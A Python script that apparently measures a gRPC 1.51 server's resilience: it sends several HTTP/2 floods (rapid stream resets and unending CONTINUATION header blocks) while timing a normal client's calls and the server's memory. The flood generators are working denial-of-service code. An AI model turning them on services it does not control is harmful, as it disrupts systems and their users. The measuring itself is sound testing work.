"""http2_floods.py HOST:PORT PID SECONDS: floods that gRPC 1.51 does not limit, one after the other, and a program beside them.

PID is that of the server. Prints a Markdown table: the calls of the program, which has its connection from before and makes ten
calls a second, and the most memory of the server.
"""
import socket
import struct
import sys
import threading
import time

import grpc

CALLS_AT_ONCE = 500
PAUSE_S = 12  # an address that flooded cannot connect for 10 s
MESSAGE = b"\0" * 5  # empty
METHOD = "/graspdb.v1.CatalogService/GetCatalogStatus"


def frame(kind, flags, stream, payload=b""):
    """RFC 9113, section 4.1."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def resets(path, message):
    headers = (b"\x83\x86\x04" + bytes([len(path)]) + path + b"\x01\x01x" + field(b"content-type", b"application/grpc") +
               field(b"te", b"trailers"))
    for first in range(1, 1 << 31, 2 * CALLS_AT_ONCE):
        calls = []
        for stream in range(first, first + 2 * CALLS_AT_ONCE, 2):
            calls.append(frame(1, 4, stream, headers))
            if message:
                calls.append(frame(0, 1, stream, message))
            calls.append(frame(3, 0, stream, struct.pack(">I", 8)))
        yield b"".join(calls)


def headers_without_end():
    yield frame(1, 0, 1, b"\x83\x86")
    block = frame(9, 0, 1, (b"\0\x01x\x7f\x81\x1f" + b"a" * 4096) * 3) * 16
    while True:
        yield block


def flood(address, make, end):
    """Connects again whenever the server ends the connection."""
    while time.monotonic() < end:
        try:
            with socket.create_connection(address, timeout=1) as connection:
                threading.Thread(target=drain, args=(connection,), daemon=True).start()
                connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
                for block in make():
                    connection.sendall(block)
                    if time.monotonic() > end:
                        return
        except OSError:
            time.sleep(0.01)


def drain(connection):
    try:
        while connection.recv(1 << 16):
            pass
    except OSError:
        pass


def resident_mib(pid):
    with open(f"/proc/{pid}/statm", encoding="ascii") as file:
        return int(file.read().split()[1]) / 256


def watch(call, pid, end):
    """(answered, failed, longest in ms, most MiB)."""
    answered, failed, longest, memory = 0, 0, 0.0, 0.0
    while time.monotonic() < end:
        begin = time.monotonic()
        try:
            call(b"", timeout=10)
            answered += 1
        except grpc.RpcError:
            failed += 1
        longest = max(longest, time.monotonic() - begin)
        memory = max(memory, resident_mib(pid))
        time.sleep(0.1)
    return answered, failed, 1e3 * longest, memory


def main():
    server, pid, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    host, port = server.rsplit(":", 1)
    call = grpc.insecure_channel(server).unary_unary(METHOD)
    kinds = {
        "none": lambda: iter(()),
        "calls reset before their message": lambda: resets(METHOD.encode(), b""),
        "calls reset after their message": lambda: resets(METHOD.encode(), MESSAGE),
        "reset calls of a method that does not exist": lambda: resets(b"/no/such", b""),
        "headers without end": headers_without_end,
    }
    print("| flood | answered | failed | longest, ms | resident, MiB | the same 5 s later |\n| --- | " + " | ".join(["---:"] * 5) + " |")
    for name, make in kinds.items():
        end = time.monotonic() + seconds
        if name != "none":
            threading.Thread(target=flood, args=((host, int(port)), make, end), daemon=True).start()
        answered, failed, longest, memory = watch(call, pid, end)
        time.sleep(5)
        print(f"| {name} | {answered} | {failed} | {longest:.0f} | {memory:.0f} | {resident_mib(pid):.0f} |", flush=True)
        time.sleep(PAUSE_S)


main()
